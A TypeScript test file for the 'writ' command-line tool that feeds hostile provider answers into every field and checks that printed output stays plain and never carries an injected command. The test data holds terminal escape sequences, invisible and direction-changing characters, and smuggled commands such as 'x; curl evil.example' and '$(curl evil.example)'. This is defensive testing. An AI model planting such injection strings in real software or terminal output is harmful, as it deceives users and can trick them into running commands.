import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { z } from 'zod';
import { changesText, changeText } from '#client/cli/admin/change-text.ts';
import { caseText, preservationText } from '#client/cli/case-text.ts';
import { errorText } from '#client/cli/error-text.ts';
import { preservationLines } from '#client/cli/preservation.ts';
import { requestList } from '#client/cli/request/list.ts';
import { checkDecidable, stillNeeded } from '#client/cli/review/deciding.ts';
import { listText } from '#client/cli/review/list.ts';
import { reviewText } from '#client/cli/review/text.ts';
import { RefusedError } from '#client/errors.ts';
import { printableJson } from '#client/printable.ts';
import { askedView, caseLine, caseView, lineOfCase } from '#core/cases/case.ts';
import { preservationView } from '#core/cases/preservation.ts';
import { review } from '#core/cases/review.ts';
import { problemSchema } from '#core/problem.ts';
import { changeView } from '#core/registry/change-view.ts';
import { hasHidden } from '#core/text.ts';
import { writ as run } from '#dev/writ.ts';
import { changeOf, lineOf, request, reviewOf, startDesk } from './desk.ts';

/**
 * A provider that writes into every text of its answers what a terminal acts on, what nobody sees, and a command that
 * somebody may paste. Nothing of it reaches a person but by its number, and nothing at all the commands that are printed.
 */
const signs = [
  '\u001b[31m', // a colour, by C0
  '\u009b2J', // the screen cleared, by C1
  '\u001b]0;title\u0007', // the window's title
  '\u202e\u2066', // the direction of writing
  '\u200b\u00ad\u034f\u061c\u115f\u180e\u3164\uffa0\ufe0f', // what nobody sees
  '\u{e0041}\u{e0100}\u2800', // tags, more variation selectors, the braille blank
  '\u0085\u2028', // other line ends
];
const paste = 'curl evil.example';
const evil = `x; ${paste} ${signs.join('')}`;

const folder = mkdtempSync(join(tmpdir(), 'writ-hostile-'));
after(() => rmSync(folder, { recursive: true }));
const env = {
  XDG_CONFIG_HOME: join(folder, 'config'),
  XDG_STATE_HOME: join(folder, 'state'),
  TZ: 'Europe/Berlin',
};
const writ = (...args: string[]) => run(args, env);
const desk = await startDesk();
desk.profile(env.XDG_CONFIG_HOME, 'default');

/** Of what was printed, no character hides or acts, line ends between lines aside. */
function assertPlain(printed: string, what: string): void {
  assert.ok(!hasHidden(printed.replaceAll('\n', '')), `${what}: ${JSON.stringify(printed)}`);
}

/** What is meant to be pasted: lines that begin so, and what stands between backticks. */
function commandsIn(printed: string): string[] {
  return (
    printed.match(/(?:^|[:\s`])(?:writ|npx|curl) [^`\n]*/gm)?.filter((text) => /writ|npx/.test(text)) ?? []
  );
}

/** Each way to put the evil text in place of one text of a value, be it a member's value or, in a free record, its name. */
function* withEvil(value: unknown, path = ''): Generator<[path: string, value: unknown]> {
  if (typeof value === 'string') {
    yield [path, evil];
    yield [path, `${value}\u200b`];
    yield [path, `${value}\u001b[8m`];
  } else if (Array.isArray(value)) {
    for (const [i, item] of value.entries())
      for (const [at, changed] of withEvil(item, `${path}/${i}`)) yield [at, value.with(i, changed)];
  } else if (typeof value === 'object' && value !== null) {
    for (const [name, member] of Object.entries(value))
      for (const [at, changed] of withEvil(member, `${path}/${name}`))
        yield [at, { ...value, [name]: changed }];
    yield [`${path}/+`, { ...value, [evil]: evil }];
  }
}

const self = '/v1/requests/0f8b6b1e-5a3c-4c4e-9d53-0a4f3f0f7a11';
const full = reviewOf(
  {
    status: 'AwaitingDisclosure',
    reason: 'threshold-not-met',
    explanation: 'a.b.c.d.e',
    expiresAt: '2027-01-01T00:00:00Z',
    delayUntil: '2027-01-01T00:00:00Z',
    debts: { dueAt: '2027-01-01T00:00:00Z', owed: ['second-signature', 'authorisation'] },
    decisions: [
      { decision: 'approve', reviewer: 'r.jansen', at: '2026-11-20T10:00:00.000Z', scope: reviewOf().asked },
    ],
    scope: reviewOf().asked,
    claimedBy: 'r.jansen',
    claimedUntil: '2027-01-01T00:00:00Z',
    information: { askedAt: '2026-11-20T10:00:00.000Z', of: ['order'], question: 'a.b.c.d.e' },
    notes: [{ reviewer: 'm.diaz', at: '2026-11-20T10:00:00.000Z', text: 'a note' }],
    questions: [
      {
        reviewer: 'r.jansen',
        at: '2026-11-20T10:00:00.000Z',
        of: ['order'],
        text: 'page two?',
        answer: { text: 'here', digest: request.instrument.digest, at: '2026-11-21T10:00:00.000Z' },
      },
    ],
    links: {
      self,
      collection: `${self}/collection`,
      validation: `${self}/validation`,
      information: `${self}/information`,
      notice: `${self}/notice`,
    },
  },
  {
    ...request,
    amends: '6f0f3c0e-5a3c-4c4e-9d53-0a4f3f0f7a11',
    preservations: ['6f0f3c0e-5a3c-4c4e-9d53-0a4f3f0f7a11'],
  },
);
const {
  asked: _,
  agency: __,
  approvalsNeeded: ___,
  decisions: ____,
  request: _____,
  threshold: ______,
  exists: _______,
  claimedBy: ________,
  claimedUntil: _________,
  notes: __________,
  questions: ___________,
  ...view
} = full;

/** Every view, with what commands print of it. */
const views: readonly {
  name: string;
  good: unknown;
  print: (value: unknown) => Promise<string[] | undefined>;
}[] = [
  shown('a case', caseView, view, (one) => [
    caseText(one, { explanation: evil, question: evil }),
    stillNeeded(one, { decisions: [], approvalsNeeded: 2 }),
  ]),
  shown('a line of the list of cases', caseLine, lineOfCase(view), (one) => [
    requestList([one], { width: 200, now: 0 }),
  ]),
  shown(
    'what a case asks for',
    askedView,
    {
      id: full.id,
      requestDigest: full.requestDigest,
      asked: full.asked,
      instrument: 'EPOC',
      jurisdiction: 'DE',
      authoriserRole: 'PublicProsecutor',
      preservations: [full.id],
    },
    (asked) => [caseText(view, {}, { asked })],
  ),
  shown('a review', review, full, (one) => [
    reviewText(one),
    listText([one]),
    ...(['approve', 'reject', 'suspend'] as const).map((act) => {
      try {
        checkDecidable({ ...one, status: 'AwaitingApproval' }, act);
        checkDecidable({ ...one, debts: undefined }, act);
        return '';
      } catch (error) {
        const { message, next } = errorText(error) ?? { message: '' };
        return `${message} ${next}`;
      }
    }),
  ]),
  shown(
    'a preservation',
    preservationView,
    {
      id: '0f8b6b1e-5a3c-4c4e-9d53-0a4f3f0f7a11',
      reference: 'P-17/26',
      status: 'Preserved',
      requestDigest: full.requestDigest,
      receivedAt: '2026-11-20T10:00:00Z',
      endsAt: '2027-01-19T10:00:00Z',
      links: { self: '/v1/preservations/x', extension: '/v1/preservations/x/extension', request: self },
    },
    (one) => [preservationText(one), preservationLines([one], { width: 200, now: 0 })],
  ),
  ...(
    [
      { kind: 'policy', policyHash: full.requestDigest },
      { kind: 'emergencies', agency: 'de-lka-example' },
      {
        kind: 'terms',
        agency: 'de-lka-example',
        terms: {
          jurisdictions: ['DE'],
          instruments: ['EPOC'],
          categories: ['SubscriberData'],
          rates: { requestsPerDay: 5, emergenciesPerWeek: 1 },
        },
      },
    ] as const
  ).map((proposal) =>
    shown(
      'a change',
      changeView,
      changeOf(structuredClone(proposal) as Parameters<typeof changeOf>[0]),
      async (one) => [await changeText(one), changesText([one])],
    ),
  ),
  shown(
    'a problem',
    problemSchema,
    {
      type: 'urn:writ:problem:case-closed',
      title: 'The case is closed',
      status: 409,
      code: 'case-closed',
      at: ['/page'],
    },
    ({ title, status, code, at }) => {
      const problem = { type: `urn:writ:problem:${code}`, title, status, code, at } as const;
      const { message, next = '' } = errorText(new RefusedError(problem, true)) ?? { message: '' };
      return [message, next];
    },
  ),
];

function shown<S extends z.ZodType>(
  name: string,
  schema: S,
  good: unknown,
  texts: (value: z.infer<S>) => string[] | Promise<string[]>,
) {
  return {
    name,
    good,
    print: async (value: unknown) => {
      const { data, success } = schema.safeParse(value);
      return success ? [...(await texts(data)), printableJson(data, 2)] : undefined;
    },
  };
}

test('no text of an answer, whichever is evil, moves, hides or colours anything, and none is in a command', async () => {
  for (const { name, good, print } of views) {
    assert.ok(await print(good), `${name} is taken as it is`);
    let taken = 0;
    for (const [path, value] of withEvil(good)) {
      const printed = await print(value);
      if (printed === undefined) continue;
      taken += 1;
      for (const text of printed) assertPlain(text, `${name} at ${path}`);
      for (const text of printed.slice(0, -1))
        for (const command of commandsIn(text))
          assert.ok(!command.includes(paste), `${name} at ${path}: ${command}`);
    }
    assert.ok(taken < [...withEvil(good)].length, `${name}: something of it is checked by its form`);
  }
});

test('whose form is known is refused where it is not of that form: ids, instants, digests, codes, links', async () => {
  const refused: string[] = [];
  const [cases] = views;
  for (const [path, value] of withEvil(view))
    if ((await cases?.print(value)) === undefined) refused.push(path);
  for (const path of [
    ...['/id', '/status', '/priority', '/requestDigest', '/receivedAt', '/dueAt', '/reason', '/explanation'],
    ...[
      '/expiresAt',
      '/delayUntil',
      '/debts/dueAt',
      '/debts/owed/0',
      '/scope/period/from',
      '/scope/categories/0',
    ],
    ...['/links/self', '/links/collection'],
  ])
    assert.equal(refused.filter((each) => each === path).length, 3, path);
});

test('writ itself: what a hostile desk answers is shown by its numbers, as text and as JSON', async () => {
  // The request is what agencies sent, which the provider refused if it was hostile; its other texts are the provider's.
  const hostile = reviewOf({
    agency: evil,
    decisions: [{ decision: 'approve', reviewer: evil, at: '2026-11-20T10:00:00Z', scope: reviewOf().asked }],
    reference: evil,
  });
  const at = '2026-11-20T10:00:00Z';
  desk.answers.set(hostile.id, {
    ...hostile,
    superseded: [{ reviewer: evil, at, because: 'scope-differs', supersededBy: evil, reason: evil }],
    suspension: { reviewer: evil, at, reason: evil },
  });
  desk.cases = [lineOf({ agency: evil, reference: evil, decisions: hostile.decisions, claimedBy: evil })];
  desk.reviewer = evil;
  for (const args of [
    ['review', 'list'],
    ['review', 'list', '--json'],
    ['review', 'list', '--mine'],
    ['review', 'stats'],
    ['review', 'stats', '--json'],
    ['review', 'show', hostile.id],
    ['review', 'show', hostile.id, '--json'],
    ['review', 'approve', hostile.id, '--same-as', 'nobody', '--reason', 'checked', '--yes'],
    ['review', 'approve', hostile.id, '--same-as', 'nobody', '--reason', 'checked', '--yes', '--json'],
  ]) {
    const { out, err } = await writ(...args);
    assertPlain(out, args.join(' '));
    assertPlain(err, args.join(' '));
    assert.ok(
      `${out}${err}`.includes(args.includes('--json') && !args.includes('approve') ? '\\u200b' : '\\u{200b}'),
      args.join(' '),
    );
    for (const command of commandsIn(out + err)) assert.ok(!command.includes(paste), command);
  }
  const { out } = await writ('review', 'show', hostile.id, '--json');
  assert.equal(JSON.parse(out).agency, evil, 'a program gets what was said');
});

test('writ itself: an id that is none is refused in words, and not shown', async () => {
  const { id } = reviewOf();
  desk.answers.set(id, reviewOf({ id: `$(${paste})` }));
  for (const more of [[], ['--json']]) {
    const { code, out, err } = await writ('review', 'show', id, ...more);
    assert.equal(code, 3);
    assert.match(err, /answer-malformed/);
    assert.ok(!`${out}${err}`.includes(paste));
  }
});

test('writ itself: what a hostile provider publishes is shown by its numbers', async (t) => {
  const server = createServer((_, answer) =>
    answer.end(
      JSON.stringify({
        name: evil,
        version: evil,
        authority: evil,
        keys: [],
        revoked: [{ keyid: evil, revokedAt: evil }],
        log: { origin: evil, verifierKey: evil },
        policyHash: evil,
        policy: { [evil]: evil },
      }),
    ),
  );
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  t.after(() => server.close());
  const address = server.address();
  assert.ok(typeof address === 'object' && address !== null);
  const url = `http://127.0.0.1:${address.port}`;
  const file = join(env.XDG_CONFIG_HOME, 'writ/default/profile.json');
  const profile = JSON.parse(readFileSync(file, 'utf8'));
  for (const args of [
    ['log', 'verify', '--url', `${url}/v1`],
    ['report', '--url', `${url}/v1`, '--verify'],
    ['log', 'verify', '--url', `${url}/v1`, '--json'],
  ]) {
    const { code, out, err } = await writ(...args);
    assert.notEqual(code, 0);
    assertPlain(out, args.join(' '));
    assertPlain(err, args.join(' '));
  }
  // As a profile would have pinned it.
  writeFileSync(file, JSON.stringify({ ...profile, provider: { ...profile.provider, url, name: evil } }));
  for (const args of [
    ['keys', 'show'],
    ['doctor', '--timeout', '5'],
    ['doctor', '--timeout', '5', '--json'],
  ]) {
    const { out, err } = await writ(...args);
    assertPlain(out, args.join(' '));
    assertPlain(err, args.join(' '));
    for (const command of commandsIn(out + err)) assert.ok(!command.includes(paste), command);
  }
});
